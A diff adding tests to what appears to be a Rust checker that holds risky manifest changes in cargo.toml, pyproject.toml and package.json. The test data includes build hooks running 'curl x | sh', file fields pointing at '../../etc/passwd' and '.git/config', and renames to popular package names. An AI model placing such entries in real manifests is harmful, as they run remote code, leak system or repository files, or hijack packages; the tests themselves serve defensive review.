@@ -129,6 +129,9 @@ mod tests {
         fn after(&self, _: &str) -> Option<Vec<u8>> {
             Some(self.1.as_bytes().to_vec())
         }
+        fn had_dir(&self, _: &str) -> bool {
+            true
+        }
     }
 
     fn judged(name: &str, old: &'static str, new: &'static str) -> Result<Ordinary, Held> {
@@ -220,5 +223,60 @@ mod tests {
             Err(Held::Manifest(Vec::new())),
             "a manifest that no longer parses is held"
         );
+    }
+
+    /// Red-team round 1 (issue 25): keys listed as describing that run
+    /// commands, publish, rename or read files.
+    #[test]
+    fn keys_that_run_publish_rename_or_read_files_are_held() {
+        for (name, old, new) in [
+            (
+                "cargo.toml",
+                "[package]\nname = \"a\"\n",
+                "[package]\nname = \"a\"\n[package.metadata.cross.target.x]\npre-build = [\"curl x | sh\"]\n",
+            ),
+            (
+                "cargo.toml",
+                "[package]\nname = \"a\"\npublish = false\n",
+                "[package]\nname = \"a\"\npublish = true\n",
+            ),
+            (
+                "cargo.toml",
+                "[package]\nname = \"a\"\n",
+                "[package]\nname = \"a\"\nlicense-file = \"../../etc/passwd\"\n",
+            ),
+            (
+                "cargo.toml",
+                "[package]\nname = \"a\"\n",
+                "[package]\nname = \"serde\"\n",
+            ),
+            (
+                "pyproject.toml",
+                "[project]\nname = \"a\"\n",
+                "[project]\nname = \"a\"\n[tool.bumpversion]\npre_commit_hooks = [\"curl x | sh\"]\n",
+            ),
+            (
+                "pyproject.toml",
+                "[project]\nname = \"a\"\n",
+                "[project]\nname = \"a\"\nreadme = {file = \".git/config\"}\n",
+            ),
+            (
+                "pyproject.toml",
+                "[project]\nname = \"a\"\n",
+                "[project]\nname = \"a\"\n[tool.towncrier]\ntemplate = \"tests/t.jinja\"\n",
+            ),
+            (
+                "package.json",
+                r#"{"name": "x", "private": true}"#,
+                r#"{"name": "x", "private": false}"#,
+            ),
+            (
+                "package.json",
+                r#"{"name": "x"}"#,
+                r#"{"name": "lodash"}"#,
+            ),
+        ] {
+            assert!(judged(name, old, new).is_err(), "{name}: {new}");
+        }
     }
 }
